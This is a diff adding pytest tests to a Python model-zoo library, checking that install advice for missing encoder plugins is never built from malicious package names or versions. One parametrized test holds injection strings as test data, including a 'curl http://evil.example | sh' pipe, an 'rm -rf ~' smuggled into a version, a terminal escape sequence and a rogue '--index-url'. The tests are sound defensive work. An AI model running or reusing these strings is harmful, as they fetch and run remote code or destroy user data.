@@ -90,3 +90,82 @@ def test_a_name_left_out_by_zoo_plugins_says_so(plugin_env: PluginEnv, capsys) -
     assert "unknown mask 'paper'" in err
     assert "ZOO_PLUGINS=none loads only those plugins" in err
     assert "unset ZOO_PLUGINS or add the plugin that provides 'paper'" in err
+
+
+# ---- what a model folder records about its plugins ------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def model_folder(tmp_path_factory):
+    from zoo.config import TrainConfig
+    from zoo.train import train
+
+    out = tmp_path_factory.mktemp("run") / "none-run"
+    config = TrainConfig(dataset="synthetic", epochs=1, train_limit=16, val_limit=8,
+                         test_limit=8, unet={"widths": [8, 16, 32]}, device="cpu", threads=1,
+                         mask="square")
+    train(config, out, final_eval=False)
+    return out
+
+
+def _record(src, dst, encoder: str, **required):
+    """A copy of ``src`` whose zoo.json records ``required`` for its encoder ``encoder``."""
+    import shutil
+
+    shutil.copytree(src, dst)
+    config = json.loads((dst / "config.json").read_text())
+    config["encoder"] = encoder
+    (dst / "config.json").write_text(json.dumps(config))
+    meta = json.loads((dst / "zoo.json").read_text())
+    meta["requires"]["encoder"] = {"name": encoder, **required}
+    (dst / "zoo.json").write_text(json.dumps(meta))
+    return dst
+
+
+@pytest.mark.parametrize("package,version", [
+    ("zoo-fancy'; curl http://evil.example | sh; echo '", "1.0"),
+    ("zoo-fancy", "1.0; rm -rf ~"),
+    ("zoo-fancy\x1b]0;pwned\x07", "1.0"),
+    ("--index-url=http://evil.example", "1.0"),
+])
+def test_install_advice_never_shows_a_command_built_from_bad_text(
+        model_folder, tmp_path, capsys, package, version) -> None:
+    from zoo.checkpoint import load_model
+
+    folder = _record(model_folder, tmp_path / "m", "fancy", plugin="fancy", package=package,
+                     version=version)
+    with pytest.raises(ZooError) as info:
+        load_model(folder)
+    msg = str(info.value)
+    assert "pip install" not in msg and "no install command is offered" in msg
+    assert "\x1b" not in msg and "\x07" not in msg
+    assert main(["eval", str(folder), "--device", "cpu"]) == 2
+    err = capsys.readouterr().err
+    assert "pip install" not in err and "\x1b]" not in err and "\x07" not in err
+
+
+def test_install_advice_for_a_valid_package_is_a_pinned_command(model_folder, tmp_path) -> None:
+    from zoo.checkpoint import load_model
+
+    folder = _record(model_folder, tmp_path / "m", "fancy", plugin="fancy",
+                     package="zoo-fancy.encoders_2", version="1.0.post1")
+    with pytest.raises(ZooError, match=r"from package zoo-fancy.encoders_2 1.0.post1, which is "
+                                       r"not installed; pip install 'zoo-fancy.encoders_2=="
+                                       r"1.0.post1'"):
+        load_model(folder)
+
+
+def test_recorded_package_must_be_the_one_serving_the_encoder(model_folder, tmp_path) -> None:
+    from zoo.checkpoint import load_model
+
+    load_model(model_folder)  # recorded zoo-inpaint, served by zoo-inpaint: loads
+    folder = _record(model_folder, tmp_path / "m", "none", plugin="none",
+                     package="zoo-other-none", version="2.0")
+    with pytest.raises(ZooError) as info:
+        load_model(folder)
+    msg = str(info.value)
+    assert "saved with the encoder 'none' of package zoo-other-none" in msg
+    assert "comes from plugin 'none' of package zoo-inpaint" in msg
+    # the same package under another spelling is the same package
+    load_model(_record(model_folder, tmp_path / "n", "none", plugin="none",
+                       package="Zoo_Inpaint", version="0.1.0"))
